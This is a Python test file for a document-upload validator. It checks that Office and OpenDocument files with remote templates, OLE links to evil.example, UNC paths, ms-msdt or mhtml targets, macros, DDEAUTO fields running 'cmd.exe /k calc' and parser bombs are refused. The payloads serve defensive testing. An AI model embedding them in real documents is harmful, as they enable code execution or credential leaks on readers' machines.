"""Office files that fetch or start something once they are opened; and those that wait."""

import io
from xml.sax.saxutils import escape, quoteattr

import docx
import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from docx.opc.constants import RELATIONSHIP_TYPE
from openpyxl.chart import BarChart, Reference

from meeting.files import elements, fields
from meeting.files.checking import validate_upload
from meeting.files.packed import CHUNK, MOST_PARTS
from tests.meeting.files.making import make_office, make_open_document
from tests.parts.measuring import cost_of

TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
EVIL = "http://evil.example/x"
OPEN_DOCUMENT = 'xmlns:xlink="http://www.w3.org/1999/xlink"'


def refusal_of(name, content):
    try:
        validate_upload(SimpleUploadedFile(name, content))
    except ValidationError as error:
        return error
    return None


def code_of(content, name="paper.docx"):
    refusal = refusal_of(name, content)
    return refusal.code if refusal else ""


def relationships(*found):
    rows = "".join(
        f'<Relationship Id="r" Type="{TYPE}{kind}" Target={quoteattr(target)}'
        ' TargetMode="External"/>'
        for kind, target in found
    )
    return f"<Relationships>{rows}</Relationships>"


def linking(kind, target, part="word/_rels/document.xml.rels"):
    return make_office(**{part: relationships((kind, target))})


@pytest.mark.parametrize(
    "kind",
    [
        *("attachedTemplate", "oleObject", "frame", "subDocument"),
        *("externalLinkPath", "mailMergeSource", "unheard-of"),
    ],
)
@pytest.mark.parametrize(
    "target",
    [
        *("http://evil.example/x", "HTTPS://evil.example/x", "ftp://evil.example/x"),
        *("file://evil.example/share/x", "file:////evil.example/share/x"),
        *(r"\\evil.example\share\x", r"file:///\\evil.example\share\x"),
        *("//evil.example/share/x", "file:///%5C%5Cevil.example/x", r"\/evil/x"),
        *("mhtml:http://evil.example/x!y", "ms-msdt:/id x", "script:http://evil"),
    ],
)
def test_what_is_fetched_on_opening_is_refused(kind, target):
    assert code_of(linking(kind, target)) == "outside"


@pytest.mark.parametrize(
    "target",
    [
        r"C:\Users\Ana\Templates\Report.dotx",
        r"file:///C:\Users\Ana\Templates\Report.dotx",
        "file:///C:/Users/Ana/Report.dotx",
        "file:////Users/ana/Library/Report.dotx",
        "file:///home/ana/Report.dotx",
        "Report.dotx",
        "../Report.dotx",
        "",
    ],
)
def test_what_is_on_the_own_disk_of_the_reader_is_taken(target):
    assert code_of(linking("attachedTemplate", target)) == ""
    assert code_of(linking("oleObject", target)) == ""


@pytest.mark.parametrize(
    "target",
    [
        *(
            EVIL,
            "https://example.org/a?b=c&d=e",
            "mailto:ana@example.org",
            "#Sheet1!A1",
        ),
        *(r"\\server\share\data.xlsx", "file:///\\\\server\\share\\data.xlsx"),
    ],
)
def test_links_to_follow_are_taken(target):
    assert code_of(linking("hyperlink", target)) == ""


@pytest.mark.parametrize("kind", ["image", "video", "audio"])
def test_pictures_of_the_web_are_taken_and_none_of_a_network(kind):
    assert code_of(linking(kind, "https://example.org/map.png")) == ""
    assert code_of(linking(kind, r"\\evil.example\share\map.png")) == "outside"
    assert code_of(linking(kind, "file://evil.example/share/map.png")) == "outside"


@pytest.mark.parametrize(
    "part",
    [
        "word/_rels/settings.xml.rels",
        "WORD/_RELS/x.XML.RELS",
        "ppt/slides/_rels/1.rels",
    ],
)
def test_each_part_with_links_is_read(part):
    assert code_of(linking("frame", EVIL, part)) == "outside"


def test_links_between_strict_ones_and_of_other_prefixes_are_read():
    strict = "http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject"
    rows = f'<x:Relationships xmlns:x="y"><x:Relationship Target="{EVIL}"'
    part = f'{rows} Type="{strict}"/></x:Relationships>'.encode("utf-16")

    assert code_of(make_office(**{"word/_rels/document.xml.rels": part})) == "outside"


@pytest.mark.parametrize(
    "kind", ["vbaProject", "xlMacrosheet", "xlIntlMacrosheet", "control"]
)
def test_macros_under_a_name_of_their_own_are_refused(kind):
    assert code_of(linking(kind, "pictures.bin")) == "macros"


def test_a_document_put_in_whole_is_refused():
    assert code_of(linking("aFChunk", "/word/page.html")) == "outside"


def test_the_sentence_says_what_is_fetched_and_what_to_do():
    long = EVIL + "?" + "x" * 300

    link = refusal_of("paper.docx", linking("oleObject", long)).messages[0]
    template = refusal_of("paper.docx", linking("attachedTemplate", EVIL)).messages[0]

    assert f"({long[:100]}…)" in link
    assert "Break the link" in link
    assert f"({EVIL})" in template
    assert (
        "Give it another (in Word under File, Options, Add-ins, Templates)" in template
    )


# Links to other programs.


def instruction(text):
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


BEGIN, END = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
COMMAND = r"c:\\windows\\system32\\cmd.exe /k calc"


@pytest.mark.parametrize(
    "body",
    [
        BEGIN + instruction(f" DDEAUTO {COMMAND} ") + END,
        BEGIN + instruction(f"dde {COMMAND}") + END,
        BEGIN + instruction("  DD") + instruction("EA") + instruction("UTO x") + END,
        BEGIN + instruction("&#68;&#x44;EAUTO x") + END,
        BEGIN + instruction(" " * 5000 + "DDEAUTO x") + END,
        BEGIN + BEGIN + instruction("QUOTE x") + END + instruction("DDE x") + END,
        instruction("DDEAUTO x"),
        f'<w:fldSimple w:instr=" DDEAUTO {COMMAND}"/>',
        "<w:fldSimple a='>' w:instr = 'DDE&#65;UTO x'>",
        '<instrText a="&gt;REF>" >DDEAUTO x</instrText>',
        '<x:ddeLink ddeService="cmd"/>',
        # More than is read in one piece.
        "<w:t>" + "x" * 700_000 + "</w:t>" + instruction("DDEAUTO x"),
        "x" * (256 * 1024 - 25) + instruction("DDEAUTO x"),
        "x" * (256 * 1024 - 50) + instruction("DDEAUTO x"),
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_links_to_other_programs_are_refused(body, encoding):
    part = f"<document>{body}</document>".encode(encoding)

    assert code_of(make_office(**{"word/any name.xml": part})) == "dde"


@pytest.mark.parametrize("text", ["<![CDATA[DDE]]>AUTO x", "DD<!-- -->EAUTO x"])
def test_a_field_that_no_program_writes_is_refused(text):
    part = f"<document>{instruction(text)}</document>"

    assert code_of(make_office(**{"word/document2.xml": part})) == "broken"


@pytest.mark.parametrize("after", range(-1, 24))
def test_wherever_what_is_unpacked_at_once_ends(after):
    begun = f"<document>{instruction('<![CDATA[DDEAUTO x]]>')}"
    place = begun.index("<![CDATA")
    part = begun.replace("<document>", f"<document>{'x' * (CHUNK - place - after)}", 1)

    assert code_of(make_office(**{"word/document2.xml": part})) == "broken"


@pytest.mark.parametrize(
    "body",
    [
        BEGIN + instruction(r' TOC \o "1-3" \h \z ') + END,
        BEGIN + instruction(" REF _Ref1 ") + END + instruction(" PAGE "),
        f'<w:fldSimple w:instr=" PAGE "><w:t>{escape("<instrText>")} DDE</w:t>',
        "<w:t>A DDEAUTO field is an instrText ddeLink refreshOnLoad='1'.</w:t>",
        '<pivotCacheDefinition refreshOnLoad="1"/>',
        '<connection refreshOnLoad="0"/>',
    ],
)
def test_other_fields_are_taken(body):
    part = f"<document>{body}</document>"

    assert code_of(make_office(**{"word/document2.xml": part})) == ""


def test_data_that_is_fetched_on_opening_is_refused():
    part = '<connections><connection name=">" refreshOnLoad="1"/></connections>'

    content = make_office(".xlsx", **{"xl/connections.xml": part})

    assert code_of(content, "table.xlsx") == "outside"


def test_another_file_packed_in_as_an_icon_is_refused():
    """A program can be in it; a table behind a chart is another class."""
    package, table = (
        bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 300_000 + bytes.fromhex(name)
        for name in (
            "0c00030000000000c000000000000046",
            "2008020000000000c0" + "0" * 12,
        )
    )

    assert code_of(make_office(**{"word/embeddings/1.bin": package})) == "package"
    assert code_of(make_office(**{"word/embeddings/1.bin": table})) == ""


# OpenDocument.


def open_document(element, part="content.xml", **more):
    content = f"<content {OPEN_DOCUMENT}>{element}</content>"
    return make_open_document(**{part: content} | more)


@pytest.mark.parametrize(
    ("element", "code"),
    [
        (f'<draw:object xlink:href="{EVIL}"/>', "outside"),
        (f'<draw:floating-frame xlink:href="{EVIL}"/>', "outside"),
        (f'<text:section-source xlink:href="{EVIL}"/>', "outside"),
        ('<draw:image xlink:href="file://evil.example/share/x.png"/>', "outside"),
        ('<office:dde-source office:dde-application="cmd"/>', "dde"),
        ('<text:dde-connection-decl office:name="x"/>', "dde"),
        ('<script:event-listener script:language="ooo:script"/>', "macros"),
        ('<x:event-listener xlink:href="vnd.sun.star.script:a"/>', "macros"),
        ('<text:a xlink:href="macro:///Standard.Module1.Main"/>', "macros"),
        (f'<text:a xlink:href="{EVIL}"/>', ""),
        ('<draw:object xlink:href="./Object 1"/>', ""),
        ('<draw:image xlink:href="https://example.org/map.png"/>', ""),
        ('<draw:plugin xlink:href="../film.mp4"/>', ""),
        (f'<presentation:event-listener xlink:href="{EVIL}"/>', ""),
    ],
)
@pytest.mark.parametrize("part", ["content.xml", "styles.xml", "Object 1/content.xml"])
def test_open_documents(element, code, part):
    assert code_of(open_document(element, part), "paper.odt") == code


@pytest.mark.parametrize("name", ["template", "auto-reload"])
def test_an_open_document_that_asks_for_another(name):
    content = open_document(f'<meta:{name} xlink:href="{EVIL}"/>', "meta.xml")

    assert code_of(content, "paper.odt") == "outside"


# Files as programs write them.


def test_a_paper_with_links_of_its_own_is_taken():
    paper, output = docx.Document(), io.BytesIO()
    paper.add_paragraph("Counting people on the move")
    paper.part.relate_to(EVIL, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    paper.save(output)

    assert code_of(output.getvalue()) == ""


def test_a_table_with_a_chart_and_links_is_taken():
    book, output = openpyxl.Workbook(), io.BytesIO()
    sheet = book.active
    sheet.append([1, 2, "=A1+B1", f'=HYPERLINK("{EVIL}")'])
    sheet["A1"].hyperlink = EVIL
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=1, min_row=1))
    sheet.add_chart(chart, "E5")
    book.save(output)

    assert code_of(output.getvalue(), "table.xlsx") == ""


# What is made to keep us busy.


def test_entities_are_refused():
    part = '<!DOCTYPE a [<!ENTITY x "xxx">]><a>&x;</a>'

    assert code_of(make_office(**{"word/_rels/document.xml.rels": part})) == "broken"


@pytest.mark.parametrize(
    ("name", "most", "part"),
    [
        ("MOST_NAMES", 500, "<a/>" * 500),
        ("MOST_BYTES", 2000, "<a>" + "x" * 2000 + "</a>"),
        ("MOST_DEPTH", 20, "<a>" * 20 + "</a>" * 20),
        ("MOST_OF_ONE", 100_000, "<a x='" + "x" * 300_000 + "'/>"),
    ],
)
def test_more_than_is_looked_through_is_refused(monkeypatch, name, most, part):
    monkeypatch.setattr(elements, name, most)
    part = f"<all>{part}</all>"

    content = make_office(**{"word/_rels/document.xml.rels": part})

    assert code_of(content) == "bomb"


def test_too_many_fields_are_refused(monkeypatch):
    monkeypatch.setattr(fields, "MOST_ELEMENTS", 10)
    parts = {f"word/{number}.xml": "<a><instrText/></a>" for number in range(11)}

    assert code_of(make_office(**parts)) == "bomb"


@pytest.mark.parametrize(
    ("name", "code"),
    [
        *(("parts", "bomb"), ("deep", ""), ("fields", "bomb")),
        *(("comment", ""), ("formulas", "bomb")),
    ],
)
def test_hostile_files_take_little_time_and_memory(tmp_path, name, code):
    row = relationships(*[("hyperlink", EVIL)] * 100)
    rows = {f"word/_rels/{n}.rels": row for n in range(MOST_PARTS - 2)}
    parts = {
        "parts": rows,
        "deep": {"word/deep.xml": "<a>" * 60_000_000},
        "fields": {"word/fields.xml": "<instrText>x</instrText>" * 8_000_000},
        "comment": {"word/comment.xml": "<!--" + "a" * 250_000_000},
        "formulas": {"word/formulas.xml": "<f a='1'>'|' RTD DDE &#65;</f>" * 8_000_000},
    }
    path = tmp_path / "paper.docx"
    path.write_bytes(make_office(**parts[name]))

    cost = cost_of(path)

    assert cost.said == code
    assert cost.seconds < 5
    assert cost.megabytes < 150
